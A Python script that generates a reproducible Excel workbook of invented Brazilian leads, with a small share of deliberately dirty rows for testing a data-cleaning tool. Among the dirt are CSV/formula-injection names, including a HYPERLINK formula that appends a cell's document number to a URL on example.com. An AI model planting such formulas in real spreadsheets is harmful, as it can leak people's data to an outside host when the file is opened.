"""A workbook of invented Brazilian leads, as clean and as dirty as real ones: the sample, and larger ones to measure.

    python samples/generate.py 1200 1                        # samples/Leads_Organizados.xlsx, or `make sample`
    python samples/generate.py 1000000 7 --out big.xlsx

ROWS counts the rows below the header, blank ones among them. The same ROWS and SEED give the same bytes (with the same
zlib; the text inside is the same with any). Three rows in a hundred carry one kind of `Sujeira`, each kind a function.

Nobody is meant. E-mails stand on example.com, .net, .org (RFC 2606) and example.com.br. Mobiles begin with 901 to 909,
which are set aside for collect calls and never a subscriber's. Landlines and mobiles in their old form have no such
range, nor have documents, which are only numbers whose check digits fit.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Sequence
from datetime import UTC, datetime
from enum import StrEnum
from functools import cache
from pathlib import Path
from random import Random
from typing import NamedTuple, TypeVar

import click
from xlsxwriter import Workbook

DEFAULT_OUT = Path(__file__).with_name("Leads_Organizados.xlsx")
SHEET = "Leads"
COLUMNS = ("Nome", "Contato", "CNPJ/CPF", "Email", "Telefone")
SEPARATOR = " | "
DIRTY = 0.03
"""The share of rows that carry dirt."""

# Excel itself writes shared strings, so that is what a sample should look like. Their table and every cell are held in
# memory until the end, about 1 kB a row; beyond this many rows strings are written in their cells, a row at a time.
MAX_ROWS_OF_SHARED_STRINGS = 300_000
_MOST_ROWS = 1_048_575  # of a sheet, without the header
_CREATED = datetime(2026, 7, 1, 9, 0, tzinfo=UTC)
_WIDTHS = (38, 26, 22, 44, 42)
_REMEMBERED = 512

Cell = str | int
Item = TypeVar("Item")


class ReadRow(NamedTuple):
    """The cells of one row; an empty text is no cell at all."""

    nome: str = ""
    contato: str = ""
    documento: Cell = ""
    email: str = ""
    telefone: Cell = ""


class Ddd(NamedTuple):
    """An area code, and the fiscal region of its state: the ninth digit of a CPF issued there."""

    ddd: str
    regiao: str


class Pessoa(NamedTuple):
    """A person's name in its parts."""

    prenome: str
    sobrenome: str
    completo: str


DDDS = tuple(
    Ddd(ddd, regiao)
    for regiao, ddds in {
        "0": "51 53 54 55",  # RS
        "1": "61 62 63 64 65 66 67",  # DF, GO, TO, MT, MS
        "2": "68 69 91 92 93 94 95 96 97",  # AC, RO, PA, AM, RR, AP
        "3": "85 86 88 89 98 99",  # CE, PI, MA
        "4": "81 82 83 84 87",  # PE, AL, PB, RN
        "5": "71 73 74 75 77 79",  # BA, SE
        "6": "31 32 33 34 35 37 38",  # MG
        "7": "21 22 24 27 28",  # RJ, ES
        "8": "11 12 13 14 15 16 17 18 19",  # SP
        "9": "41 42 43 44 45 46 47 48 49",  # PR, SC
    }.items()
    for ddd in ddds.split()
)


def _words(text: str, separator: str = " ") -> tuple[str, ...]:
    return tuple(text.split(separator))


_NO_DDDS = _words("10 20 23 25 26 29 30 36 39 40 50 52 56 57 58 59 60 70 72 76 78 80 90")
_DOMAINS = ("example.com", "example.com.br", "example.org", "example.net")

_GIVEN_NAMES = _words(
    "Adriana Alice Amanda Ana André Antônio Arthur Beatriz Benício Bruno Caio Camila Carla Carlos Caroline César "
    "Cíntia Clara Cláudio Daniel Débora Diego Edson Eduardo Elaine Elisa Emerson Fabiana Fábio Felipe Fernanda "
    "Flávia Francisco Gabriela Gilberto Giovana Guilherme Gustavo Heitor Helena Heloísa Henrique Hugo Igor Inês "
    "Isabela Ivan Jaqueline Jéssica João Joana Joaquim Jonas José Juliana Júlio Larissa Laura Leandro Letícia Lívia "
    "Lorena Lucas Luís Luíza Manuela Marcelo Márcia Marcos Maria Mariana Marina Mateus Maurício Mônica Murilo "
    "Natália Nelson Otávio Patrícia Paula Pedro Rafael Raíssa Raquel Raul Regina Renata Ricardo Roberta Rodrigo "
    "Rosângela Samuel Sandra Sérgio Simone Sônia Tainá Tatiana Teresa Thiago Valéria Vanessa Vera Vinícius Vitória "
    "Wagner Yara"
)
_SURNAMES = _words(
    "Abreu Aguiar Albuquerque Almeida Alves Amaral Andrade Anjos Aragão Araújo Assunção Azevedo Barbosa Barreto Barros "
    "Batista Bezerra Borges Braga Brandão Brito Camargo Campos Cardoso Carneiro Carvalho Castro Cavalcanti Conceição "
    "Cordeiro Corrêa Costa Coutinho Cunha Dantas Dias Duarte Esteves Farias Fernandes Ferreira Figueiredo Fonseca "
    "Fontes Freitas Furtado Galvão Gomes Gonçalves Guimarães Holanda Leal Leão Leite Lima Lopes Macedo Machado "
    "Magalhães Maia Marques Martins Medeiros Melo Mendes Menezes Monteiro Moraes Moreira Mota Moura Nascimento Neves "
    "Nogueira Nunes Oliveira Pacheco Paiva Peixoto Pereira Pimentel Pinheiro Pires Queiroz Ramos Reis Rezende Ribeiro "
    "Rocha Rodrigues Sá Sales Sampaio Santana Santos Saraiva Silva Silveira Siqueira Soares Souza Tavares Teixeira "
    "Toledo Torres Valença Vasconcelos Veiga Viana Vieira Xavier"
)
_PARTICLES = {
    surname: particle
    for particle, surnames in {
        "da ": "Conceição Costa Cunha Fonseca Mota Rocha Silva Silveira Veiga",
        "de ": "Abreu Almeida Andrade Assunção Azevedo Barros Carvalho Castro Farias Freitas Lima Melo Moraes Oliveira",
        "do ": "Amaral Nascimento",
        "dos ": "Anjos Reis Santos",
    }.items()
    for surname in surnames.split()
}
_COMPANY_STEMS = _words(
    "Água Clara|Alto da Serra|Angelim|Arara Azul|Aroeira|Barra Funda Nova|Beija-Flor|Boa Colheita|Bom Rumo|Buriti|"
    "Cajueiro|Campo Sereno|Canoa Quebrada|Capim Dourado|Carnaúba|Casa do Pão|Cerrado Vivo|Chão de Estrelas|"
    "Cravo & Canela|Dois Irmãos|Encosta Verde|Estação Central|Estrela do Norte|Farol da Ilha|Flor de Ipê|Girassol|"
    "Horizonte Azul|Ipê Branco|Jacarandá|Jatobá|Juriti|Lagoa Mansa|Lua Cheia|Mandacaru|Manacá da Serra|Maré Alta|"
    "Mar & Terra|Mata Nova|Monte Claro|Nascente|Nova Aliança|Ouro Verde|Paineira|Pedra Branca|Pé de Serra|"
    "Pena & Tinta|Ponte Nova|Porto Sereno|Praia Grande Azul|Primavera|Quero-Quero|Raiz Forte|Recanto Feliz|"
    "Ribeirão Claro|Rio Manso|Sabiá|São Bento Novo|Serra Dourada|Sol Nascente|Tamanduá|Terra Roxa|Três Marias|Tucano|"
    "Umbuzeiro|Vale Encantado|Vento Sul|Vila Aurora",
    separator="|",
)
_COMPANY_TRADES = _words(
    "Alimentos|Advogados Associados|Agropecuária|Arquitetura|Auto Peças|Brinquedos|Calçados|Climatização|"
    "Comércio de Bebidas|Comércio e Representações|Confecções|Construções|Contabilidade|Consultoria|Distribuidora|"
    "Embalagens|Engenharia|Farmácia de Manipulação|Ferragens|Gráfica e Editora|Hotelaria|Informática|Laticínios|"
    "Limpeza e Conservação|Logística|Marcenaria|Material de Construção|Móveis Planejados|Odontologia|"
    "Padaria e Confeitaria|Papelaria|Produções|Restaurante|Serviços Médicos|Supermercado|Tecnologia|Transportes|"
    "Turismo|Veterinária",
    separator="|",
)
_COMPANY_FORMS = ("Ltda.", "Ltda.", "Ltda.", "Ltda", "LTDA", "ME", "Ltda. - EPP", "S.A.", "S/S", "& Cia. Ltda.")
_MAILBOXES = _words("adm atendimento comercial compras contato diretoria financeiro sac vendas")

# How many contacts of one kind a row has, as often as they stand here.
_COUNTS = (0, 1, 1, 1, 1, 1, 1, 2, 2, 3)
_CHARACTERS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
_BRANCHES = ("0001", "0001", "0001", "0001", "0002", "0005")


# All is drawn from `rng.random()`, the one method whose sequence Python promises to keep from version to version.


def linhas(rows: int, seed: int, *, dirty: float = DIRTY) -> Iterator[ReadRow]:
    """The rows of a workbook, without its header; of clean ones no two have the same document."""
    rng = Random(seed)
    first = _below(rng, 10**8)
    earlier: list[ReadRow] = []
    deck: list[Sujeira] = []
    for number in range(rows):
        linha = _clean(rng, first + number)
        if rng.random() < dirty:
            deck = deck or _shuffled(rng)
            yield _DIRT[deck.pop()](rng, linha, _one(rng, earlier) if earlier else linha)
        else:
            yield linha
            if len(earlier) < _REMEMBERED:
                earlier.append(linha)
            elif number % 16 == 0:  # rarely, so that a repeated row may be thousands of rows away from the first
                earlier[_below(rng, _REMEMBERED)] = linha


def generate(path: Path, rows: int, seed: int) -> None:
    """Write the workbook of these rows and this seed to `path`, whose folder is made if it is missing."""
    write(path, linhas(rows, seed), constant_memory=rows > MAX_ROWS_OF_SHARED_STRINGS)


def write(path: Path, rows: Iterable[ReadRow], *, constant_memory: bool) -> None:
    """Write rows below a header, with shared strings or, in bounded memory, with strings in their cells."""
    path.parent.mkdir(parents=True, exist_ok=True)
    workbook = Workbook(str(path), {"constant_memory": constant_memory})
    workbook.set_properties({"title": "Leads organizados", "created": _CREATED})
    bold = workbook.add_format({"bold": True})
    sheet = workbook.add_worksheet(SHEET)
    sheet.freeze_panes(1, 0)
    for column, (title, width) in enumerate(zip(COLUMNS, _WIDTHS, strict=True)):
        sheet.set_column(column, column, width)
        sheet.write_string(0, column, title, bold)
    for number, linha in enumerate(rows, start=1):
        for column, cell in enumerate(linha):
            if isinstance(cell, int):
                sheet.write_number(number, column, cell)
            elif cell:
                sheet.write_string(number, column, cell)
    workbook.close()  # `with` would also close after an interrupt, and leave half a workbook that looks whole


# --- Clean rows


def _clean(rng: Random, number: int) -> ReadRow:
    """One row without dirt. Rows of different numbers have different documents."""
    area = _one(rng, DDDS)
    emails, phones = _one(rng, _COUNTS), _one(rng, _COUNTS)
    phones = phones or int(not emails)  # a lead that cannot be reached at all is dirt
    telefone = SEPARATOR.join([_phone(rng, area.ddd) for _ in range(phones)])
    if rng.random() < 0.55:
        return _company(rng, number, emails, telefone)
    pessoa = _person(rng)
    return ReadRow(
        nome=pessoa.completo,
        contato=_person(rng).completo if rng.random() < 0.3 else "",
        documento=_written(rng, _cpf(_code(number) + area.regiao)),
        email=SEPARATOR.join([_personal_email(rng, pessoa) for _ in range(emails)]),
        telefone=telefone,
    )


def _company(rng: Random, number: int, emails: int, telefone: str) -> ReadRow:
    stem, pessoa = _one(rng, _COMPANY_STEMS), _person(rng)
    if rng.random() < 0.25:
        stem = f"{pessoa.sobrenome} & {_one(rng, _SURNAMES)}"
    base = _letters_and_digits(rng) if rng.random() < 0.12 else _code(number)
    return ReadRow(
        nome=f"{stem} {_one(rng, _COMPANY_TRADES)} {_one(rng, _COMPANY_FORMS)}",
        contato=pessoa.completo if rng.random() < 0.85 else "",
        documento=_written(rng, _cnpj(base + _one(rng, _BRANCHES))),
        email=SEPARATOR.join([_company_email(rng, stem) for _ in range(emails)]),
        telefone=telefone,
    )


def _person(rng: Random) -> Pessoa:
    given, surname = _one(rng, _GIVEN_NAMES), _one(rng, _SURNAMES)
    middle = f"{_one(rng, _SURNAMES)} " if rng.random() < 0.6 else ""
    particle = _PARTICLES.get(surname, "") if rng.random() < 0.6 else ""
    return Pessoa(given, surname, f"{given} {middle}{particle}{surname}")


def _personal_email(rng: Random, pessoa: Pessoa) -> str:
    return f"{_ascii(pessoa.prenome)}.{_ascii(pessoa.sobrenome)}{_below(rng, 10_000)}@{_one(rng, _DOMAINS)}"


def _company_email(rng: Random, stem: str) -> str:
    return f"{_one(rng, _MAILBOXES)}.{_ascii(stem)}{_below(rng, 10_000)}@{_one(rng, _DOMAINS)}"


def _phone(rng: Random, ddd: str) -> str:
    """A mobile or, one time in five, a landline, in one of the ways that people write it."""
    subscriber = _mobile(rng) if rng.random() < 0.8 else f"{2 + _below(rng, 4)}{_digits(rng, 7)}"
    first, last = subscriber[:-4], subscriber[-4:]
    style = rng.random()
    if style < 0.5:
        return f"({ddd}) {first}-{last}"
    if style < 0.7:
        return f"{ddd}{subscriber}"
    if style < 0.8:
        return f"{ddd} {first}-{last}"
    return f"+55{ddd}{subscriber}" if style < 0.9 else f"+55 {ddd} {first}-{last}"


def _mobile(rng: Random) -> str:
    return f"90{1 + _below(rng, 9)}{_digits(rng, 6)}"


def _code(number: int) -> str:
    """Eight digits that look drawn: their step has no factor in common with 10**8, so none returns before all were."""
    return f"{number * 61_803_399 % 100_000_000:08}"


def _letters_and_digits(rng: Random) -> str:
    """The root of an alphanumeric CNPJ, with a letter for certain."""
    return _CHARACTERS[10 + _below(rng, 26)] + "".join([_one(rng, _CHARACTERS) for _ in range(7)])


def _cpf(base: str) -> str:
    """The CPF of nine digits: weights from the right 2, 3, 4, … without end."""
    if base.count(base[0]) == len(base):  # would fit, but is no CPF
        base = "123456789"
    return _with_check_digits(base, range(2, 12))


def _cnpj(base: str) -> str:
    """The CNPJ of twelve characters, each worth its ASCII code less 48: weights from the right 2 to 9, and again."""
    return _with_check_digits(base, (2, 3, 4, 5, 6, 7, 8, 9, 2, 3, 4, 5, 6))


def _with_check_digits(base: str, weights: Sequence[int]) -> str:
    for _ in range(2):
        rest = sum([(code - 48) * weight for code, weight in zip(reversed(base.encode()), weights, strict=False)]) % 11
        base += "0" if rest < 2 else str(11 - rest)
    return base


def _written(rng: Random, documento: str) -> str:
    """The document with its mask or, three times in ten, without."""
    if rng.random() < 0.3:
        return documento
    if len(documento) == 11:
        return f"{documento[:3]}.{documento[3:6]}.{documento[6:9]}-{documento[9:]}"
    return f"{documento[:2]}.{documento[2:5]}.{documento[5:8]}/{documento[8:12]}-{documento[12:]}"


# --- Dirt. Each function takes a clean row, and one that was written earlier, and returns the dirty row.


class Sujeira(StrEnum):
    """What real sheets suffer from."""

    DOCUMENTO_NUMERICO = "documento_numerico"
    TELEFONE_NUMERICO = "telefone_numerico"
    TELEFONE_CIENTIFICO = "telefone_cientifico"
    ZEROS_PERDIDOS = "zeros_perdidos"
    DIGITO_ERRADO = "digito_errado"
    CELULAR_ANTIGO = "celular_antigo"
    DDD_INEXISTENTE = "ddd_inexistente"
    TEXTO_PERDIDO = "texto_perdido"
    ACENTO_NO_EMAIL = "acento_no_email"
    PONTO_E_VIRGULA = "ponto_e_virgula"
    VIRGULA = "virgula"
    BARRA = "barra"
    QUEBRA_DE_LINHA = "quebra_de_linha"
    CONTATO_REPETIDO = "contato_repetido"
    LINHA_REPETIDA = "linha_repetida"
    FORMULA_NO_NOME = "formula_no_nome"
    ESPACOS = "espacos"
    LINHA_EM_BRANCO = "linha_em_branco"
    NADA_UTIL = "nada_util"


Dirt = Callable[[Random, ReadRow, ReadRow], ReadRow]


def _shuffled(rng: Random) -> list[Sujeira]:
    """Every kind of dirt, the common ones several times. Dealt from a deck, none is missing from a small sample."""
    return sorted((kind for kind in Sujeira for _ in range(_WEIGHTS.get(kind, 1))), key=lambda _: rng.random())


def _number_for_document(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    """A number cell: it has lost its leading zeros, if there were any."""
    return linha._replace(documento=int(_numeric_document(rng, linha)))


def _number_for_phone(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    country = "55" if rng.random() < 0.4 else ""
    return linha._replace(telefone=int(f"{country}{_one(rng, DDDS).ddd}{_mobile(rng)}"))


def _scientific_phone(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    """What Excel shows of a number too wide for it, saved as text: six digits are gone."""
    return linha._replace(telefone=f"5,5{_one(rng, DDDS).ddd}9{_below(rng, 9) + 1}E+12")


def _lost_zeros(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    digits = _numeric_document(rng, linha)
    document = _cpf("0" + digits[1:9]) if len(digits) == 11 else _cnpj("0" + digits[1:12])
    return linha._replace(documento=document.lstrip("0"))


def _wrong_digit(_rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    document = str(linha.documento)
    return linha._replace(documento=f"{document[:-1]}{(int(document[-1]) + 1) % 10}")


def _old_mobile(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    """A mobile from before the ninth digit."""
    old = f"({_one(rng, DDDS).ddd}) {_one(rng, '89')}{_digits(rng, 3)}-{_digits(rng, 4)}"
    return linha._replace(telefone=SEPARATOR.join(filter(None, (old, str(linha.telefone)))))


def _bad_ddd(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    mobile = _mobile(rng)
    return linha._replace(telefone=f"({_one(rng, _NO_DDDS)}) {mobile[:5]}-{mobile[5:]}")


def _stray_text(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    return linha._replace(**_one(rng, _STRAY_TEXTS))


def _accented_email(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    """The name as it is spelt, in front of an @."""
    address = f"joão.{_ascii(_one(rng, _SURNAMES))}@{_one(rng, _DOMAINS)}"
    return linha._replace(email=SEPARATOR.join(filter(None, (address, linha.email))))


def _separated_by(separator: str) -> Dirt:
    def dirt(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
        ddd, pessoa = _one(rng, DDDS).ddd, _person(rng)
        emails = filter(None, (*linha.email.split(SEPARATOR), _personal_email(rng, pessoa)))
        phones = filter(None, (*str(linha.telefone).split(SEPARATOR), _phone(rng, ddd)))
        return linha._replace(email=separator.join(emails), telefone=separator.join(phones))

    return dirt


def _repeated_contact(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    """The same e-mail or phone twice in its cell, written in two ways."""
    if linha.email and rng.random() < 0.5:
        first = linha.email.partition(SEPARATOR)[0]
        return linha._replace(email=f"{linha.email}{SEPARATOR}{first.upper()}")
    ddd, mobile = _one(rng, DDDS).ddd, _mobile(rng)
    return linha._replace(telefone=f"({ddd}) {mobile[:5]}-{mobile[5:]}{SEPARATOR}+55{ddd}{mobile}")


def _repeated_row(rng: Random, linha: ReadRow, earlier: ReadRow) -> ReadRow:
    """An earlier row again or, half the time, its lead with other contacts."""
    if rng.random() < 0.5:
        return earlier
    return earlier._replace(nome=earlier.nome.upper(), email=linha.email, telefone=linha.telefone)


def _formula(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    """A name that a careless export would run when it is opened (CSV injection)."""
    return linha._replace(nome=_one(rng, _FORMULAS))


def _spaces(rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    """Blanks where nobody sees them; some do not break, as those that come from a web page."""
    blank = _one(rng, ("  ", "\xa0", " \t"))
    return linha._replace(
        nome=f"{blank}{linha.nome.replace(' ', '  ')} ",
        email=f" {linha.email}{blank}" if linha.email else "",
        telefone=f"{linha.telefone} " if linha.telefone else "",
    )


def _blank_row(_rng: Random, _linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    return ReadRow()


def _nothing_useful(_rng: Random, linha: ReadRow, _earlier: ReadRow) -> ReadRow:
    return ReadRow(linha.nome, linha.contato, "a confirmar", "sem e-mail", "não tem")


def _numeric_document(rng: Random, linha: ReadRow) -> str:
    """The digits of the row's document; a CPF in the place of one that has letters."""
    document = re.sub(r"[./-]", "", str(linha.documento))
    return document if document.isdecimal() else _cpf(_digits(rng, 9))


_DIRT: dict[Sujeira, Dirt] = {
    Sujeira.DOCUMENTO_NUMERICO: _number_for_document,
    Sujeira.TELEFONE_NUMERICO: _number_for_phone,
    Sujeira.TELEFONE_CIENTIFICO: _scientific_phone,
    Sujeira.ZEROS_PERDIDOS: _lost_zeros,
    Sujeira.DIGITO_ERRADO: _wrong_digit,
    Sujeira.CELULAR_ANTIGO: _old_mobile,
    Sujeira.DDD_INEXISTENTE: _bad_ddd,
    Sujeira.TEXTO_PERDIDO: _stray_text,
    Sujeira.ACENTO_NO_EMAIL: _accented_email,
    Sujeira.PONTO_E_VIRGULA: _separated_by("; "),
    Sujeira.VIRGULA: _separated_by(", "),
    Sujeira.BARRA: _separated_by(" / "),
    Sujeira.QUEBRA_DE_LINHA: _separated_by("\n"),
    Sujeira.CONTATO_REPETIDO: _repeated_contact,
    Sujeira.LINHA_REPETIDA: _repeated_row,
    Sujeira.FORMULA_NO_NOME: _formula,
    Sujeira.ESPACOS: _spaces,
    Sujeira.LINHA_EM_BRANCO: _blank_row,
    Sujeira.NADA_UTIL: _nothing_useful,
}
_WEIGHTS = {
    Sujeira.DOCUMENTO_NUMERICO: 3,
    Sujeira.TELEFONE_NUMERICO: 3,
    Sujeira.LINHA_REPETIDA: 2,
    Sujeira.ESPACOS: 2,
}
_STRAY_TEXTS: tuple[dict[str, str], ...] = (
    {"telefone": "não tem"},
    {"telefone": "ligar só depois do almoço"},
    {"telefone": "mesmo do sócio"},
    {"email": "sem e-mail"},
    {"email": "não informado"},
    {"email": "-"},
    {"documento": "isento"},
    {"documento": "a confirmar"},
)
_FORMULAS = (
    '=HYPERLINK("http://example.com/?dados="&C2,"Clique aqui")',
    '=HYPERLINK("http://example.net";"Boleto")',
    "=1+1",
    "+SOMA(A1:A9)",
    "-2+3",
    "@SUM(1+1)",
)


# --- Draws


def _one(rng: Random, options: Sequence[Item]) -> Item:
    return options[int(rng.random() * len(options))]


def _below(rng: Random, end: int) -> int:
    return int(rng.random() * end)


def _digits(rng: Random, count: int) -> str:
    return f"{int(rng.random() * 10**count):0{count}}"


@cache
def _ascii(text: str) -> str:
    """`Água Clara` → `aguaclara`."""
    return re.sub(r"[^a-z0-9]", "", unicodedata.normalize("NFKD", text).lower())


@click.command()
@click.argument("rows", type=click.IntRange(1, _MOST_ROWS))
@click.argument("seed", type=int)
@click.option("--out", type=click.Path(dir_okay=False, path_type=Path), default=DEFAULT_OUT, show_default=True)
def main(rows: int, seed: int, out: Path) -> None:
    """Write a workbook of ROWS invented leads; the same ROWS and SEED write the same file."""
    generate(out, rows, seed)
    click.echo(f"{out}: {rows} rows, {out.stat().st_size} bytes")


if __name__ == "__main__":
    main()
